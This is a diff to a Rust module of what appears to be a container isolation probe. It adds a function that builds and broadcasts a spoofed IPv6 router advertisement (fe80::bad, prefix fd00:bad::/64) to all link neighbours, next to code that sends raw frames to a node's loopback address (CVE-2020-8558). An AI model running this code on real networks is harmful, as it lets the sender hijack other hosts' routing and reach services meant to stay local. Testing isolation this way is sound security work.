@@ -1,10 +1,12 @@
 //! Sockets: abstract names of other processes, and frames for the node's loopback address (CVE-2020-8558).
 
 use std::fs;
-use std::net::{Ipv4Addr, UdpSocket};
+use std::net::{Ipv4Addr, Ipv6Addr, UdpSocket};
 use std::os::linux::net::SocketAddrExt;
 use std::os::unix::net::{SocketAddr, UnixStream};
 use std::time::{Duration, Instant};
+
+use nix::libc;
 
 use super::raw;
 use crate::act::number;
@@ -41,14 +43,47 @@ pub(crate) fn frame(address: &str, port: &str, text: &str) -> Outcome {
         .map_err(|error| format!("reach {gateway}: {error}"))?;
     let std::net::IpAddr::V4(from) = own.ip() else { return Err("no IPv4".into()) };
     let hardware = neighbour(gateway).ok_or("the gateway has no hardware address")?;
-    let index = fs::read_to_string(format!("/sys/class/net/{link}/ifindex"))
-        .ok()
-        .and_then(|text| text.trim().parse().ok())
-        .ok_or("no link")?;
+    let index = index(&link)?;
     let packet = packet(from, address, own.port(), port, text.as_bytes());
-    match raw::send_frame(index, hardware, &packet) {
+    match raw::send_frame(libc::ETH_P_IP, index, hardware, &packet) {
         Ok(_) => println!("saw sent to {address}"),
         Err(errno) => println!("held frame: {errno}"),
+    }
+    Ok(0)
+}
+
+fn index(link: &str) -> Result<u32, String> {
+    let text = fs::read_to_string(format!("/sys/class/net/{link}/ifindex")).ok();
+    text.and_then(|text| text.trim().parse().ok()).ok_or_else(|| format!("no link {link}"))
+}
+
+/// Says to all neighbours on the link that fe80::bad is their IPv6 router, with the prefix fd00:bad::/64: a router
+/// advertisement (RFC 4861, section 4.2).
+pub(crate) fn advertise(link: &str) -> Outcome {
+    let (from, to) = (Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad), Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1));
+    const ROUTER_ADVERTISEMENT: u8 = 134;
+    // Type, code, checksum, hop limit, flags, lifetime of 1800 s, and two times that are not specified.
+    let mut message = vec![ROUTER_ADVERTISEMENT, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
+    // Option "prefix information" of 4 * 8 bytes: on the link and for addresses, without an end.
+    message.extend([3, 4, 64, 0xc0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]);
+    message.extend(Ipv6Addr::new(0xfd00, 0xbad, 0, 0, 0, 0, 0, 0).octets());
+    const ICMPV6: u8 = 58;
+    let length = message.len() as u16;
+    let pseudo = [&from.octets()[..], &to.octets(), &[0, 0], &length.to_be_bytes(), &[0, 0, 0, ICMPV6], &message];
+    let sum: u32 = pseudo.concat().chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
+    let sum = (sum & 0xffff) + (sum >> 16);
+    message[2..4].copy_from_slice(&(!(((sum & 0xffff) + (sum >> 16)) as u16)).to_be_bytes());
+    // Hop limit 255: the packet came from no other link.
+    let mut packet = vec![0x60, 0, 0, 0];
+    packet.extend(length.to_be_bytes());
+    packet.extend([ICMPV6, 255]);
+    packet.extend(from.octets());
+    packet.extend(to.octets());
+    packet.extend(message);
+    const ALL_NODES: [u8; 6] = [0x33, 0x33, 0, 0, 0, 1];
+    match raw::send_frame(libc::ETH_P_IPV6, index(link)?, ALL_NODES, &packet) {
+        Ok(_) => println!("saw sent"),
+        Err(errno) => println!("held advertise: {errno}"),
     }
     Ok(0)
 }
